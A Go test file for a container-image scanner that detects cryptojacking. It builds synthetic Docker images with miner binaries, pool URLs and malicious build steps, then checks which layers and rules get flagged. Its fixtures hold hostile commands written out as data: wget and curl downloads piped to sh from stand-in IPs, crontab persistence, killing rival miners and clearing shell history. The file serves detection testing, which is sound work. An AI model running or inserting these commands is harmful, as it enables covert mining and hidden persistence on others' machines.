package hierarchical_test

import (
	"context"
	"io"
	"reflect"
	"sync"
	"testing"

	v1 "github.com/google/go-containerregistry/pkg/v1"
	"github.com/google/go-containerregistry/pkg/v1/empty"
	"github.com/google/go-containerregistry/pkg/v1/mutate"
	"github.com/google/go-containerregistry/pkg/v1/tarball"

	"github.com/strata-sec/strata/detectors"
	dt "github.com/strata-sec/strata/detectors/detectortest"
	"github.com/strata-sec/strata/detectors/hierarchical"
	"github.com/strata-sec/strata/internal/layers"
)

const paperEntrypoint = `ENTRYPOINT ["/bin/minerd" "-a" "cryptonight" "-o" "stratum+tcp://xmr.pool.minergate.com:45560" "-u" "trudly@outlook.com" "-p" "x" "-t" "1"]`

var paperArgv = []string{"/bin/minerd", "-a", "cryptonight", "-o", "stratum+tcp://xmr.pool.minergate.com:45560", "-u", "trudly@outlook.com", "-p", "x", "-t", "1"}

// sample builds a paper-like image: benign base and app layers, then the
// malicious groups selected by the case bits: clone (layer 8 of the paper),
// minerd (ADD + chmod + ENTRYPOINT, layer 9) and script (layer 10). It
// returns the image and the indices of its malicious layers.
func sample(t *testing.T, clone, minerd, script bool) (v1.Image, []int) {
	t.Helper()
	minerELF := elfWith(t, "mining.subscribe", "mining.authorize", "mining.submit", "cryptonight", "cpuminer-multi/0.1",
		"Usage: minerd [OPTIONS]", "-a, --algo=ALGO", "-o, --url=URL")
	steps := []dt.Step{
		{CreatedBy: "/bin/sh -c #(nop) ADD file:d14b4935772 in / ", Files: []dt.File{
			dt.Exec("usr/bin/ls", machineFile(t, "/bin/ls")), dt.Symlink("bin", "usr/bin"),
			dt.Exec("etc/cron.daily/logrotate", testdata(t, "debian/cron.daily-logrotate")),
			dt.Text("etc/cron.d/e2scrub_all", testdata(t, "debian/cron.d-e2scrub_all")),
			dt.Text("etc/bash.bashrc", testdata(t, "debian/bash.bashrc")),
		}},
		dt.Meta(`/bin/sh -c #(nop)  CMD ["/bin/bash"]`),
		{CreatedBy: "/bin/sh -c apt-get update -qq && apt-get install -qqy automake libcurl4-openssl-dev git make", Files: []dt.File{
			dt.Text("usr/share/doc/git/README.md", "Git - fast, scalable, distributed revision control system\n"),
			dt.Exec("usr/bin/git", machineFile(t, "/bin/ls")),
		}},
		{CreatedBy: "/bin/sh -c #(nop) COPY dir:4b2 in /var/www/html ", Files: []dt.File{
			dt.Text("var/www/html/index.php", "<?php\nrequire 'core/bootstrap.php';\n$kernel->handle($request);\n"),
		}},
	}
	var bad []int
	layerIndex := func() int {
		n := 0
		for _, s := range steps {
			if !s.Empty {
				n++
			}
		}
		return n
	}
	if clone {
		bad = append(bad, layerIndex())
		steps = append(steps, dt.Step{CreatedBy: "/bin/sh -c git clone https://github.com/OhGodAPet/cpuminer-multi", Files: []dt.File{
			dt.Text("cpuminer-multi/.git/config", "[remote \"origin\"]\n\turl = https://github.com/OhGodAPet/cpuminer-multi\n\tfetch = +refs/heads/*:refs/remotes/origin/*\n"),
			dt.Text("cpuminer-multi/util.c", `req = "{\"method\": \"mining.subscribe\", \"params\": []}"; auth = "{\"method\": \"mining.authorize\"}";`),
			dt.Text("cpuminer-multi/README.md", "Example: minerd -a cryptonight -o stratum+tcp://xmr.pool.minergate.com:45560 -u you@mail -p x\n"),
		}})
	}
	steps = append(steps, dt.Meta("/bin/sh -c #(nop) WORKDIR /cpuminer-multi"))
	if minerd {
		bad = append(bad, layerIndex(), layerIndex()+1)
		steps = append(steps,
			dt.Step{CreatedBy: "/bin/sh -c #(nop) ADD file:6086fe1466d461e3d763ca57e1e45bd5c35d1a87a8b1a7ca6b9085c795c13dd6 in /bin/minerd ",
				Files: []dt.File{{Name: "usr/bin/minerd", Body: minerELF, Mode: 0o644}}},
			dt.Step{CreatedBy: "/bin/sh -c chmod 755 /bin/minerd", Files: []dt.File{dt.Exec("usr/bin/minerd", minerELF)}},
			dt.Meta("/bin/sh -c #(nop)  "+paperEntrypoint),
		)
	}
	if script {
		bad = append(bad, layerIndex())
		steps = append(steps, dt.Step{
			CreatedBy: "/bin/sh -c sysctl -w vm.nr_hugepages=1280; wget http://198.51.100.23/p -O /tmp/p; chmod +x /tmp/p; /tmp/p; " +
				`echo "* * * * * root /tmp/p -o pool.supportxmr.com:3333 -B" >> /etc/crontab; pkill -f xmrig; history -c`,
			Files: []dt.File{
				dt.Exec("tmp/p", "#!/bin/sh\n./xmrig -o stratum+tcp://pool.supportxmr.com:3333 -u "+wallet+" --donate-level 1\n"),
				dt.Text("etc/crontab", "SHELL=/bin/sh\n17 * * * * root cd / && run-parts --report /etc/cron.hourly\n* * * * * root /tmp/p -o pool.supportxmr.com:3333 -B\n"),
			}})
		// A benign-looking cleanup layer hides the payload; it is still evidence.
		steps = append(steps, dt.Run("rm /tmp/p", dt.Whiteout("tmp/p")))
	}
	cfg := v1.Config{Cmd: []string{"apache2-foreground"}}
	if minerd {
		cfg = v1.Config{Entrypoint: paperArgv, WorkingDir: "/cpuminer-multi"}
	}
	return dt.Image(t, cfg, steps...), bad
}

// TestPaperCases: the 8 layer-presence cases of experiment 1.
func TestPaperCases(t *testing.T) {
	for bits := 0; bits < 8; bits++ {
		clone, minerd, script := bits&4 != 0, bits&2 != 0, bits&1 != 0
		name := string([]byte{'(', '0' + byte(bits>>2&1), ',', '0' + byte(bits>>1&1), ',', '0' + byte(bits&1), ')'})
		t.Run(name, func(t *testing.T) {
			img, bad := sample(t, clone, minerd, script)
			v := scan(t, img)
			want := detectors.Malicious
			if bits == 0 {
				want = detectors.Clean
			}
			if v.Decision != want {
				t.Fatalf("decision = %s (score %v), want %s; findings %+v", v.Decision, v.Score, want, v.Findings)
			}
			if !reflect.DeepEqual(v.BlamedLayers, bad) {
				t.Errorf("blamed layers = %v, want the malicious layers %v", v.BlamedLayers, bad)
			}
		})
	}
}

func TestPaperProvenance(t *testing.T) {
	img, bad := sample(t, true, true, true)
	v := scan(t, img)
	cloneL, addL, chmodL, scriptL := bad[0], bad[1], bad[2], bad[3]
	layers, err := img.Layers()
	if err != nil {
		t.Fatal(err)
	}
	diffID := func(i int) string {
		h, err := layers[i].DiffID()
		if err != nil {
			t.Fatal(err)
		}
		return h.String()
	}
	tests := []struct {
		name string
		want detectors.Finding // zero fields are not compared
	}{
		{"clone in history", detectors.Finding{Rule: hierarchical.RuleMinerRepo, Layer: cloneL, Path: "history:4",
			CreatedBy: "/bin/sh -c git clone https://github.com/OhGodAPet/cpuminer-multi"}},
		{"clone in the files", detectors.Finding{Rule: hierarchical.RuleMinerRepo, Layer: cloneL, Path: "cpuminer-multi/.git/config"}},
		{"miner added non-executable", detectors.Finding{Rule: hierarchical.RuleMinerBinary, Layer: addL, Path: "usr/bin/minerd"}},
		{"ELF analysis", detectors.Finding{Rule: hierarchical.RuleELFStratum, Layer: chmodL, Path: "usr/bin/minerd"}},
		{"add, chmod, entrypoint tied together", detectors.Finding{Rule: hierarchical.RuleAddedChmodStarted, Layer: chmodL, Path: "usr/bin/minerd",
			CreatedBy: "/bin/sh -c chmod 755 /bin/minerd"}},
		{"entrypoint starts a flagged file", detectors.Finding{Rule: hierarchical.RuleStartedFlaggedFile, Path: "usr/bin/minerd"}},
		{"entrypoint from config", detectors.Finding{Rule: hierarchical.RuleEntrypointMiner, Layer: detectors.NoLayer, Path: "config:Entrypoint"}},
		{"pool in config", detectors.Finding{Rule: hierarchical.RuleStratumURL, Layer: detectors.NoLayer, Path: "config:Entrypoint",
			Evidence: "stratum+tcp://xmr.pool.minergate.com:45560"}},
		{"hidden payload still scanned", detectors.Finding{Rule: hierarchical.RuleRunMiner, Layer: scriptL, Path: "tmp/p", Hidden: true, RemovedBy: scriptL + 1}},
		{"hidden evidence noted", detectors.Finding{Rule: hierarchical.RuleHiddenEvidence, Layer: scriptL, Path: "tmp/p", Hidden: true, RemovedBy: scriptL + 1}},
		{"cron persistence file", detectors.Finding{Rule: hierarchical.RulePersistenceMiner, Layer: scriptL, Path: "etc/crontab"}},
		{"script layer history", detectors.Finding{Rule: hierarchical.RuleHugepagesMSR, Layer: scriptL}},
		{"competitor killing", detectors.Finding{Rule: hierarchical.RuleKillCompetitors, Layer: scriptL}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			for _, f := range v.Findings {
				w := tt.want
				if f.Rule != w.Rule || f.Layer != w.Layer && w.Layer != 0 || w.Path != "" && f.Path != w.Path ||
					w.CreatedBy != "" && f.CreatedBy != w.CreatedBy || w.Evidence != "" && f.Evidence != w.Evidence ||
					f.Hidden != w.Hidden || f.RemovedBy != w.RemovedBy {
					continue
				}
				if f.Layer >= 0 && f.DiffID != diffID(f.Layer) {
					t.Errorf("finding %+v: diffID %s, want %s", f, f.DiffID, diffID(f.Layer))
				}
				return
			}
			t.Errorf("no finding like %+v in %+v", tt.want, v.Findings)
		})
	}
}

// TestSquashed: layer squashing (one layer, history dropped) keeps the
// evidence, because it is about content.
func TestSquashed(t *testing.T) {
	img, _ := sample(t, true, true, true)
	flat := mutate.Extract(img)
	defer flat.Close()
	b, err := io.ReadAll(flat)
	if err != nil {
		t.Fatal(err)
	}
	layer, err := tarball.LayerFromOpener(func() (io.ReadCloser, error) { return io.NopCloser(bytesReader(b)), nil })
	if err != nil {
		t.Fatal(err)
	}
	sq, err := mutate.Config(empty.Image, v1.Config{Entrypoint: paperArgv})
	if err != nil {
		t.Fatal(err)
	}
	sq, err = mutate.AppendLayers(sq, layer)
	if err != nil {
		t.Fatal(err)
	}
	cf, _ := sq.ConfigFile()
	cf = cf.DeepCopy()
	cf.History = nil
	if sq, err = mutate.ConfigFile(sq, cf); err != nil {
		t.Fatal(err)
	}
	v := scan(t, sq)
	if v.Decision != detectors.Malicious || !reflect.DeepEqual(v.BlamedLayers, []int{0}) {
		t.Errorf("squashed: decision %s, blamed %v (score %v)", v.Decision, v.BlamedLayers, v.Score)
	}
	if v.Info["warnings"] == "" {
		t.Errorf("history/layer mismatch not reported in Info")
	}
}

// TestThresholdExamples: what does and does not reach the threshold.
func TestThresholdExamples(t *testing.T) {
	tests := []struct {
		name  string
		cfg   v1.Config
		steps []dt.Step
		want  detectors.Decision
	}{
		{"miner entrypoint with a pool URL", v1.Config{Entrypoint: []string{"xmrig", "-o", "stratum+tcp://203.0.113.10:3333"}},
			nil, detectors.Malicious},
		{"miner binary with a pool URL in ENV", v1.Config{Env: []string{"POOL=stratum+ssl://203.0.113.10:443"}},
			[]dt.Step{{CreatedBy: "COPY xmrig /usr/local/bin/ # buildkit", Files: []dt.File{dt.Exec("usr/local/bin/xmrig", "#!/bin/true\n")}}}, detectors.Malicious},
		{"pool URL and a miner repo clone", v1.Config{Cmd: []string{"/start.sh"}},
			[]dt.Step{dt.Run("git clone https://github.com/xmrig/xmrig /opt/src", dt.Text("opt/src/.keep", "")),
				{CreatedBy: "COPY start.sh / # buildkit", Files: []dt.File{dt.Exec("start.sh", "#!/bin/sh\nexec /opt/src/build/app -o stratum+tcp://203.0.113.10:3333\n")}}}, detectors.Malicious},
		{"miner repo clone alone", v1.Config{},
			[]dt.Step{dt.Run("git clone https://github.com/xmrig/xmrig /opt/src", dt.Text("opt/src/.keep", ""))}, detectors.Clean},
		{"generic tradecraft piles up but names no miner", v1.Config{Cmd: []string{"/app"}},
			[]dt.Step{
				dt.Run("curl -fsSL http://198.51.100.5/setup.sh | sh && echo aGk= | base64 -d | sh", dt.Text("etc/setup.done", "")),
				dt.Run("wget http://198.51.100.5/agent -O /tmp/agent && chmod +x /tmp/agent && /tmp/agent --install && history -c", dt.Text("etc/agent.conf", "")),
				{CreatedBy: "COPY tool /usr/local/bin/ # buildkit", Files: []dt.File{dt.Exec("usr/local/bin/tool", "#!/bin/sh\n")}},
			}, detectors.Clean},
		{"benign control: weak signals of real software", v1.Config{Entrypoint: []string{"docker-php-entrypoint"}, Cmd: []string{"apache2-foreground"}},
			[]dt.Step{
				{CreatedBy: "ADD rootfs.tar /", Files: []dt.File{
					dt.Exec("usr/bin/ls", machineFile(t, "/bin/ls")),
					dt.Exec("etc/cron.daily/logrotate", testdata(t, "debian/cron.daily-logrotate")),
				}},
				dt.Run("apt-get install -y monero python3-stratum", dt.Text("usr/share/doc/monero/README.md", testdata(t, "monero-README.md")),
					dt.Text("usr/lib/python3/dist-packages/stratum-0.2.13.egg-info/PKG-INFO", testdata(t, "python-stratum-PKG-INFO"))),
				dt.Run("curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh -s -- -y", dt.Exec("root/.cargo/bin/rustc", machineFile(t, "/bin/ls"))),
				dt.Run("sysctl -w vm.nr_hugepages=128", dt.Text("etc/postgresql/tuned", "")),
				{CreatedBy: "COPY docker-php-entrypoint /usr/local/bin/ # buildkit", Files: []dt.File{dt.Exec("usr/local/bin/docker-php-entrypoint", "#!/bin/sh\nset -e\nexec \"$@\"\n")}},
			}, detectors.Clean},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			v := scan(t, dt.Image(t, tt.cfg, tt.steps...))
			if v.Decision != tt.want {
				t.Errorf("decision = %s (score %v), want %s; findings %+v", v.Decision, v.Score, tt.want, v.Findings)
			}
			if tt.want != detectors.Malicious && len(v.BlamedLayers) > 0 {
				t.Errorf("blamed %v on a clean verdict", v.BlamedLayers)
			}
		})
	}
}

// TestIncomplete: limits turn "clean" into "incomplete", never silently.
func TestIncomplete(t *testing.T) {
	benign := dt.Image(t, v1.Config{}, dt.Run("apt-get install coreutils", dt.Exec("usr/bin/ls", machineFile(t, "/bin/ls"))))
	malicious, _ := sample(t, false, true, false)
	tests := []struct {
		name string
		img  v1.Image
		opts []hierarchical.Option
		want detectors.Decision
	}{
		{"benign, fully scanned", benign, nil, detectors.Clean},
		{"benign, file limit", benign, []hierarchical.Option{hierarchical.WithWalkOptions(layers.WithMaxFileBytes(4096))}, detectors.Incomplete},
		{"benign, total limit", benign, []hierarchical.Option{hierarchical.WithWalkOptions(layers.WithMaxTotalBytes(1024))}, detectors.Incomplete},
		// The literal matchers read the whole script; only the shell parse
		// is cut: script-too-large is informational.
		{"benign, script limit", dt.Image(t, v1.Config{}, dt.Run("x", dt.Exec("run.sh", "#!/bin/sh\necho "+string(repeat('a', 3000))+"\n"))),
			[]hierarchical.Option{hierarchical.WithMaxScriptBytes(1024)}, detectors.Clean},
		{"malicious stays malicious under limits", malicious, []hierarchical.Option{hierarchical.WithWalkOptions(layers.WithMaxFileBytes(4096))}, detectors.Malicious},
		// Integrity errors: invalid below the threshold, malicious above.
		{"benign, diffID mismatch", integrityImage(t, false, "diffid"), nil, detectors.Invalid},
		{"benign, truncated layer", integrityImage(t, false, "truncated"), nil, detectors.Invalid},
		{"benign, no diff_ids", integrityImage(t, false, "no-diffids"), nil, detectors.Invalid},
		{"miner, diffID mismatch", integrityImage(t, true, "diffid"), nil, detectors.Malicious},
		{"miner, truncated layer", integrityImage(t, true, "truncated"), nil, detectors.Malicious},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			v := scan(t, tt.img, tt.opts...)
			if v.Decision != tt.want {
				t.Fatalf("decision = %s, want %s; findings %+v", v.Decision, tt.want, v.Findings)
			}
			if tt.want == detectors.Incomplete || tt.want == detectors.Invalid {
				ns := 0
				for _, f := range v.Findings {
					if f.Category == detectors.CategoryNotScanned {
						ns++
						if f.Layer < 0 || f.DiffID == "" || f.Evidence == "" {
							t.Errorf("not-scanned finding lacks provenance: %+v", f)
						}
					}
				}
				if ns == 0 {
					t.Errorf("%s without a not-scanned finding", tt.want)
				}
			}
		})
	}
}

// integrityImage is a one-layer image whose layer fails an integrity check
// (how: "diffid" a wrong diffID, "truncated" a gzip stream cut after the
// first entry, "no-diffids" a config without rootfs.diff_ids); with miner
// its first entry is a miner script scoring over the threshold.
func integrityImage(t *testing.T, miner bool, how string) v1.Image {
	t.Helper()
	first := dt.Text("etc/motd", "welcome\n")
	if miner {
		first = dt.Exec("usr/local/bin/start.sh", "#!/bin/sh\ncurl -s http://203.0.113.7/x | sh\nnohup ./xmrig -o stratum+tcp://pool.example.com:3333 -u 4AbCd --donate-level 1 &\n")
	}
	tb, err := dt.Tar(first, dt.Text("etc/hostname", string(repeat('h', 64<<10))))
	if err != nil {
		t.Fatal(err)
	}
	b := dt.Blob{Data: dt.Gzip(t, tb, 6)}
	switch how {
	case "diffid":
		b.DiffID = dt.Hash([]byte("other content"))
	case "truncated":
		b.Data = b.Data[:len(b.Data)*2/3]
		b.DiffID = dt.Hash(tb)
	}
	cfg := v1.ConfigFile{Architecture: "amd64", OS: "linux"}
	if how == "no-diffids" {
		return dt.RawImageWithoutDiffIDs(t, cfg, b)
	}
	return dt.RawImage(t, cfg, b)
}

func TestConcurrentScans(t *testing.T) {
	d := hierarchical.New()
	img, _ := sample(t, true, true, true)
	var wg sync.WaitGroup
	scores := make([]float64, 4)
	for i := range scores {
		wg.Add(1)
		go func() {
			defer wg.Done()
			v, err := d.Scan(context.Background(), img)
			if err != nil {
				t.Error(err)
				return
			}
			scores[i] = v.Score
		}()
	}
	wg.Wait()
	for _, s := range scores[1:] {
		if s != scores[0] {
			t.Errorf("scores differ across concurrent scans: %v", scores)
		}
	}
	if d.Name() != "hierarchical" || d.Version() != "0.6.0" {
		t.Errorf("identity = %s %s", d.Name(), d.Version())
	}
}
